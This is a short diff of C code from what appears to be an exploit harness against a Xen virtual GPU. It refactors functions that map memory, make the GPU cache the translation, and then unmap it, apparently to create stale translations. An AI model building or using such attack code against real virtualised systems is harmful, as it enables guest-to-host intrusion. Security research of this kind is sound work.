@@ -71,6 +71,16 @@ static int read_zero(struct attack_place *p)
 	return dma_copy(&p->dma, 0, p->va, 64);
 }
 
+/* The GPU reads there, so that it knows the translation from then on. */
+static int let_gpu_see(struct attack_place *p, uint64_t va)
+{
+	int ret = dma_copy(&p->dma, va, p->va, 64);
+
+	if (!ret)
+		ret = dma_submit(&p->dma);
+	return ret ? ret : dma_wait(&p->dma, STOP_TIMEOUT);
+}
+
 static int stale_object(struct attack_place *p)
 {
 	uint64_t va = 0;
@@ -79,13 +89,8 @@ static int stale_object(struct attack_place *p)
 
 	if (!ret)
 		ret = dma_map(&p->dma, handle, 0, XENVGPU_MEM_ALIGN, XENVGPU_PAGE_64K, 0, &va);
-	/* The GPU knows the translation from here on. */
 	if (!ret)
-		ret = dma_copy(&p->dma, va, p->va, 64);
-	if (!ret)
-		ret = dma_submit(&p->dma);
-	if (!ret)
-		ret = dma_wait(&p->dma, STOP_TIMEOUT);
+		ret = let_gpu_see(p, va);
 	if (!ret)
 		ret = dma_unmap(&p->dma, va, XENVGPU_MEM_ALIGN, XENVGPU_PAGE_64K);
 	if (!ret)
@@ -100,11 +105,7 @@ static int stale_import(struct attack_place *p)
 	int ret = dma_buffer(&p->dma, 1, &import, &va);
 
 	if (!ret)
-		ret = dma_copy(&p->dma, va, p->va, 64);
-	if (!ret)
-		ret = dma_submit(&p->dma);
-	if (!ret)
-		ret = dma_wait(&p->dma, STOP_TIMEOUT);
+		ret = let_gpu_see(p, va);
 	if (!ret)
 		ret = dma_unmap(&p->dma, va, HV_PAGE_SIZE, XENVGPU_PAGE_4K);
 	if (!ret)
